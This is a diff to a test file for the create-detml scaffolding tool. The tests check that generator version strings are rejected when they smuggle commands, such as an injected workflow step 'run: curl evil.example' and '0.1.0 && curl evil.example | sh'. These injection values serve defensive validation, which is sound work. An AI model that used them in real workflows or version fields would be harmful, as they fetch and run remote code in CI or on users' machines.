@@ -55,6 +55,13 @@ describe('the pinned create-detml version', () => {
     expect(pins(pair.next)).toEqual(['.github/workflows/ci.yml 0.6.0', '.github/workflows/detml-sync.yml 0.6.0']);
   });
 
+  it('a generator version that is not a plain version never reaches a rendered workflow', () => {
+    const { dir, manifest } = resolveTemplate('onnx');
+    expect(() => renderTemplate(dir, resolveAnswers(manifest, {}), manifest, { generatorVersion: '1.0.0\n        run: curl evil.example' })).toThrow(
+      'Generator version "1.0.0\\n        run: curl evil.example" is not a semver version.',
+    );
+  });
+
   it('a state file whose generator version is not a plain version is refused before it reaches a workflow or npm', () => {
     const state = (version: string) => JSON.stringify({ schema: 1, generator: { name: 'create-detml', version }, template: { id: 'onnx', version: '1.3.0' }, answers: {}, files: {} });
     expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow('s.json is corrupt: "generator.version" must be a semver version like 1.2.3.');
